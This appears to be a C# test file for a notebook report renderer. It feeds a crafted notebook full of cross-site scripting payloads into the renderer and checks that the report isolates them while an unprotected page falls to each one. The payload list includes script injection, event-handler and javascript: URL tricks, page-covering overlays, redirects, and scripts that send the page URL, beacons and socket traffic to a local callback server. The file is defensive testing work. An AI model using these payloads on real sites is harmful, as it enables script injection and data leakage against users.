using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using FeatureLearning.Plotly;

namespace FeatureLearning.Workbook.Tests.Report;

/// <summary>
/// A notebook that wants to run script in the report's page, cover it, leave it or call home. Its scripts run, in frames of their own, and reach
/// nothing; the same HTML put into a page without the report's care does all of it (the broken twin).
/// </summary>
public sealed class HostileNotebookTests : IAsyncLifetime, IDisposable
{
    private const string Plain = "<p style=\"color:#123456\">plain</p>";

    private readonly TemporaryFolder folder = new();
    private readonly TcpListener server = new(IPAddress.Loopback, 0);
    private readonly CancellationTokenSource stop = new();
    private readonly ConcurrentQueue<string> calls = new();

    private string Home => $"http://127.0.0.1:{((IPEndPoint)server.LocalEndpoint).Port}/";

    public Task InitializeAsync()
    {
        server.Start();
        _ = CountAsync();
        return Task.CompletedTask;
    }

    public Task DisposeAsync() => Task.CompletedTask;

    public void Dispose()
    {
        stop.Cancel();
        server.Dispose();
        stop.Dispose();
        folder.Dispose();
    }

    [ChromiumFact]
    public async Task It_cannot_run_in_the_page_cover_it_leave_it_or_call_home()
    {
        string[] cells =
        [
            .. Htmls.Concat([Plain]).Select(html => $"HTML({Literal(html)})"),
            $"{Literal(Figure)}.DisplayAs(\"application/vnd.plotly.v1+json\");",
            $"{Literal($"<svg xmlns='http://www.w3.org/2000/svg' onload='{Pwn}'><script>{Pwn}</script></svg>")}.DisplayAs(\"image/svg+xml\");",
            $"{Literal("AAAA\" onerror=\"" + Pwn)}.DisplayAs(\"image/png\");",
            $"{Literal("\\href{javascript:window.pwned=1}{x}\\htmlData{a=1}{y}")}.DisplayAs(\"text/latex\");",
            $"{Literal(Markdown)}.DisplayAs(\"text/markdown\");",
            $"Console.WriteLine({Literal($"<script>{Pwn}</script>")}); throw new Exception({Literal($"<img src=x onerror={Pwn}>")});",
        ];
        string dib = folder.Write("hostile.dib", "#!markdown\n\n# Mine\n\n" + Markdown + "\n\n" + string.Concat(cells.Select(cell => $"#!csharp\n\n{cell}\n\n")));
        WorkbookProcess.Outcome outcome = await WorkbookProcess.RunAsync("run", dib, "--out", folder.File("out"));
        Assert.True(outcome.ExitCode == 1, outcome.Errors); // the last cell throws
        string path = folder.File("out/report/hostile.html");
        JsonElement page = await OpenAsync(path, frames: 3);
        Assert.False(page.GetProperty("pwned").GetBoolean());
        Assert.Equal("Mine", page.GetProperty("title").GetString());
        Assert.Equal(new Uri(path).AbsoluteUri, page.GetProperty("address").GetString());
        Assert.True(page.GetProperty("onTop").GetBoolean(), "something covers the page");
        Assert.Equal(Htmls.Length, page.GetProperty("frames").GetInt32());
        Assert.Equal(3, page.GetProperty("spoke").GetInt32()); // the scripts did run, where they may: they grew their frames
        Assert.Equal(1, page.GetProperty("plain").GetInt32()); // and what is harmless stands in the page itself
        Assert.Equal("", page.GetProperty("handlers").GetString());
        Assert.Empty(calls);
        string index = folder.File("out/report/index.html");
        Assert.False((await OpenAsync(index)).GetProperty("pwned").GetBoolean());
        Assert.Empty(calls);
    }

    [ChromiumFact]
    public async Task Without_the_reports_care_each_of_these_attacks_succeeds()
    {
        using CancellationTokenSource limit = new(TimeSpan.FromMinutes(3));
        await using Chromium chromium = await Chromium.StartAsync(Components.Chromium!, limit.Token);
        Assert.False(await IsHarmedWithinAsync(chromium, Plain, 20, limit.Token), "what is harmless was taken for an attack");
        foreach (string html in Htmls)
        {
            Assert.True(await IsHarmedWithinAsync(chromium, html, 150, limit.Token), html);
        }
    }

    /// <summary>Whether a page that takes the HTML as it is comes to harm within so many tenths of a second.</summary>
    private async Task<bool> IsHarmedWithinAsync(Chromium chromium, string html, int tenths, CancellationToken limit)
    {
        int before = calls.Count;
        string path = folder.Write($"twin-{Guid.NewGuid():N}.html", $"<!doctype html><title>Mine</title><h1>Mine</h1><main><div class=\"outputs\">{html}</div></main>");
        string address = new Uri(path).AbsoluteUri;
        BrowserPage page = await chromium.OpenAsync(1280, 900, limit);
        await page.SendAsync("Page.navigate", new { url = address }, limit);
        for (int i = 0; i < tenths; i++)
        {
            await Task.Delay(100, limit);
            if (calls.Count > before || await IsHarmedAsync(page, address, limit))
            {
                return true;
            }
        }

        return false;
    }

    private static async Task<bool> IsHarmedAsync(BrowserPage page, string address, CancellationToken limit)
    {
        try
        {
            JsonElement seen = await LookAsync(page, limit);
            string shown = seen.GetProperty("address").GetString()!;
            bool isChanged = seen.GetProperty("title").GetString() is not "Mine" || !seen.GetProperty("onTop").GetBoolean();
            return shown != "about:blank"
                && (shown != address || seen.GetProperty("pwned").GetBoolean() || (seen.GetProperty("ready").GetBoolean() && isChanged));
        }
        catch (InvalidOperationException)
        {
            return false; // the page is on its way elsewhere: look again
        }
    }

    /// <summary>One statement that, run in the page or in a frame that reaches it, is seen in the page.</summary>
    private static string Pwn => "try{top.pwned=1}catch(e){}try{parent.pwned=1}catch(e){}window.pwned=1";

    private string[] Htmls =>
    [
        $"<script>{Pwn};try{{parent.document.title='x'}}catch(e){{}}try{{top.location='{Home}top'}}catch(e){{}}document.documentElement.style.height='777px'</script>",
        $"<img src=x onerror=\"{Pwn};document.documentElement.style.height='777px'\">",
        $"<a id=\"go\" href=\"javascript:{Pwn}\">go</a><script>document.getElementById('go').click()</script>",
        $"<meta http-equiv=\"refresh\" content=\"0;url={Home}refresh\">",
        $"<script>location.href='{Home}self?'+document.URL;fetch('{Home}fetch').catch(()=>0)</script>",
        $"<img src=\"{Home}picture\"><link rel=\"stylesheet\" href=\"{Home}style\"><iframe src=\"{Home}frame\"></iframe><object data=\"{Home}object\"></object>",
        $"</iframe></div></main></body></html><script>{Pwn}</script>",
        $"\" srcdoc=\"<script>{Pwn}</script>\" onload=\"{Pwn}\"><script>{Pwn}</script>",
        $"<form action=\"{Home}form\" id=\"f\"><input name=x></form><script>document.getElementById('f').submit()</script>",
        $"<base href=\"{Home}\"><style>@import url({Home}import);body,h1,main{{display:none!important}}</style><img src=\"x\">",
        $"<svg onload=\"{Pwn}\"></svg><details open ontoggle=\"{Pwn};document.documentElement.style.height='777px'\"><summary>s</summary></details>",
        "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">covers</div>",
        "<div style=\"width:4000px;height:4000px;margin:-2000px 0 0 -2000px;background:red\">covers</div>",
        "<div style=\"margin:0 0 0 0;translate:0 -1500px;height:4000px;background:red\">covers</div>",
        $"<script>const w=window.open('{Home}open');navigator.sendBeacon('{Home}beacon','x');new WebSocket('{Home.Replace("http", "ws", StringComparison.Ordinal)}socket')</script>",
    ];

    private static string Figure => JsonSerializer.Serialize(new
    {
        data = new[] { new { y = new[] { 1, 2 }, name = $"</script><script>{Pwn}</script>", text = $"<a href='javascript:{Pwn}'>x</a>" } },
        layout = new { title = new { text = $"<img src=x onerror={Pwn}><a href=\"javascript:{Pwn}\">t</a>" }, meta = new { caption = $"</script><script>{Pwn}</script>" } },
    });

    private string Markdown =>
        $"<script>{Pwn}</script>\n\n<img src=x onerror=\"{Pwn}\">\n\n[a](javascript:window.pwned=1) <javascript:window.pwned=1> ![p]({Home}picture)\n\n"
        + $"<meta http-equiv=\"refresh\" content=\"0;url={Home}md\">\n\n## Figure 1 {{onclick=x}}\n\n## katex\n\n$\\href{{javascript:window.pwned=1}}{{x}}$";

    /// <summary>What the page looks like a second after scripts in as many frames have made them grow, or after a minute if they do not.</summary>
    private static async Task<JsonElement> OpenAsync(string path, int frames = 0)
    {
        using CancellationTokenSource limit = new(TimeSpan.FromMinutes(2));
        await using Chromium chromium = await Chromium.StartAsync(Components.Chromium!, limit.Token);
        BrowserPage page = await chromium.OpenAsync(1280, 900, limit.Token);
        await page.NavigateAsync(new Uri(path).AbsoluteUri, limit.Token);
        string spoken = "Array.from(document.querySelectorAll('iframe.foreign')).filter(f => f.style.height === '781px').length";
        for (int i = 0; i < 600 && (await page.EvaluateAsync(spoken, limit.Token)).GetInt32() < frames; i++)
        {
            await Task.Delay(100, limit.Token);
        }

        await Task.Delay(1000, limit.Token);
        return await LookAsync(page, limit.Token);
    }

    private static async Task<JsonElement> LookAsync(BrowserPage page, CancellationToken limit)
    {
        JsonElement seen = await page.EvaluateAsync(
            """
            (() => {
              const heading = document.querySelector("h1"), box = heading ? heading.getBoundingClientRect() : { left: 0, top: 0, width: 0, height: 0 };
              const top = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
              const frames = Array.from(document.querySelectorAll("iframe.foreign"));
              return JSON.stringify({
                ready: document.readyState === "complete", pwned: "pwned" in window, title: document.title, address: location.href,
                onTop: !!heading && !!top && heading.contains(top),
                frames: frames.length, spoke: frames.filter(f => f.style.height === "781px").length,
                plain: document.querySelectorAll(".html > p[style]").length,
                handlers: Array.from(document.querySelectorAll("*")).flatMap(e => e.getAttributeNames()).filter(a => a.startsWith("on")).join(" "),
              });
            })()
            """, limit);
        return JsonDocument.Parse(seen.GetString()!).RootElement;
    }

    private async Task CountAsync()
    {
        try
        {
            while (true)
            {
                // Each on its own: an idle connection must not hide the next one.
                _ = AnswerAsync(await server.AcceptTcpClientAsync(stop.Token));
            }
        }
        catch (Exception error) when (error is OperationCanceledException or ObjectDisposedException or SocketException)
        {
        }
    }

    private async Task AnswerAsync(TcpClient client)
    {
        using (client)
        {
            try
            {
                byte[] request = new byte[200];
                int length = await client.GetStream().ReadAsync(request, stop.Token);
                if (length > 0)
                {
                    // Chromium may open a connection before its policy refuses the navigation, and close it without a request.
                    calls.Enqueue(Encoding.ASCII.GetString(request, 0, length).Split('\r')[0]);
                    await client.GetStream().WriteAsync("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi"u8.ToArray(), stop.Token);
                }
            }
            catch (Exception error) when (error is OperationCanceledException or ObjectDisposedException or IOException or SocketException)
            {
            }
        }
    }

    private static string Literal(string text) => JsonSerializer.Serialize(text);
}
